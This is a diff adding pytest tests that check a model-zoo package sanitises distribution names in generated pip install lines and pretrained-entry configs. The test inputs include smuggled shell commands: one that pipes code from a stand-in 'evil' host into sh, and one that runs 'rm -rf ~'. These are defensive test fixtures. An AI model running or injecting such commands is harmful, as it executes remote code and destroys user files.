@@ -135,3 +135,22 @@ def test_hostile_ensemble_folder(tmp_path, ensemble, match):
                                                     "ensemble": ensemble}))
     with pytest.raises(CheckpointError, match=match):
         milzoo.load_pretrained(str(folder))
+
+
+def test_model_card_install_line_takes_only_valid_distribution_names(tmp_path):
+    from milzoo.hub import save_pretrained
+
+    d = _saved(tmp_path)
+    _edit(d, lambda c: c.update(distributions={"milzoo-abmil": "0.1.0", "x; curl http://evil | sh": "1"}))
+    out = save_pretrained(d, tmp_path / "hub")
+    pip_line = next(l for l in (out / "README.md").read_text().splitlines() if l.startswith("pip install"))
+    assert pip_line.split() == ["pip", "install", "milzoo", "milzoo-abmil"]
+
+
+def test_pretrained_entry_requires_valid_distribution_names():
+    from pydantic import ValidationError
+
+    from milzoo.pretrained import PretrainedEntry
+
+    with pytest.raises(ValidationError, match="not valid distribution names"):
+        PretrainedEntry(name="x", repo_id="o/x", recipe="r.toml", requires=["milzoo-x && rm -rf ~"])
